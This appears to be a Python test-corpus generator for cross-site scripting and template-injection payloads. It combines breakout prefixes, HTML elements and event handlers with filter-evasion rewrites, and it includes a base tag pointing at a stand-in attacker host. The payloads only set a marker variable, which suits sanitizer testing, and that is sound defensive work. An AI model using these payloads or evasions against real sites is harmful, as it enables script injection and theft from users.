"""Script and markup tricks: ways out of where a text stands × elements × handlers × ways to write it.

Each would set `window.pwned`, and every element it would make carries the attribute `pwn`.
"""

from itertools import product

DEED = "window.pwned=1"
WAYS_OUT = ("", '">', "'>", "</p>", "</title>", "</textarea>", "-->", "]]>", "</script>", '" ', "' ", "`>")
ELEMENTS = (
    "<script pwn>{deed}</script>",
    "<img pwn src=x onerror={deed}>",
    "<svg pwn onload={deed}>",
    "<svg pwn><script>{deed}</script></svg>",
    "<iframe pwn srcdoc='<script>parent.{deed}</script>'>",
    "<iframe pwn src=javascript:parent.{deed}>",
    "<body pwn onload={deed}>",
    "<details pwn open ontoggle={deed}>",
    "<input pwn autofocus onfocus={deed}>",
    "<video pwn><source onerror={deed}></video>",
    "<audio pwn src=x onerror={deed}>",
    "<object pwn data=javascript:{deed}>",
    "<embed pwn src=javascript:{deed}>",
    "<a pwn href=javascript:{deed}>x</a>",
    "<form pwn action=javascript:{deed}><button>x</button></form>",
    "<math pwn><mtext onclick={deed}>x</mtext></math>",
    "<style pwn>@import 'javascript:{deed}';</style>",
    "<link pwn rel=stylesheet href=data:text/css,*{{}}>",
    "<meta pwn http-equiv=refresh content='0;url=javascript:{deed}'>",
    "<base pwn href=//evil.example/>",
    "<div pwn hx-on:load={deed} hx-trigger=load hx-get=/>",
    "<div pwn hx-vals='js:{deed}' hx-get=/ hx-trigger=load>",
)
ATTRIBUTES = (
    '" pwn onmouseover={deed} x="',
    "' pwn onfocus={deed} autofocus x='",
    " pwn onload={deed} ",
    '" pwn style="background:url(javascript:{deed})',
    "javascript:{deed}",
    "data:text/html,<script pwn>{deed}</script>",
)
TEMPLATES = (
    "{{{{{deed}}}}}",
    "{{% debug %}}",
    "${{{deed}}}",
    "#{{{deed}}}",
    "<%= {deed} %>",
    "%3Cscript pwn%3E{deed}%3C/script%3E",
)


def _upper(text: str) -> str:
    return text.replace("script", "ScRiPt").replace("onerror", "OnErRoR").replace("<svg", "<SVG")


def _slashed(text: str) -> str:
    """Slashes instead of blanks between attributes."""
    return text.replace(" pwn ", "/pwn/")


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&#x3e;")


def _wide(text: str) -> str:
    """Full-width signs, which a careless normalisation turns into the real ones."""
    return text.replace("<", "\uff1c").replace(">", "\uff1e")


def _doubled(text: str) -> str:
    """For filters that take a word away once."""
    return text.replace("<script", "<scr<script>ipt").replace("onerror", "onononerrorerror")


WRITINGS = (_upper, _slashed, _entities, _wide, _doubled)


def tricks() -> list[str]:
    plain = [way + element.format(deed=DEED) for way, element in product(WAYS_OUT, ELEMENTS)]
    others = [text.format(deed=DEED) for text in (*ATTRIBUTES, *TEMPLATES)]
    rewritten = [write(element.format(deed=DEED)) for write in WRITINGS for element in ELEMENTS]
    return list(dict.fromkeys([*plain, *others, *rewritten]))


def packed(most: int) -> list[str]:
    """All of them in texts of at most so many characters."""
    texts = [""]
    for trick in tricks():
        if len(texts[-1]) + len(trick) + 1 > most:
            texts.append("")
        texts[-1] += " " + trick
    return [text.strip() for text in texts]
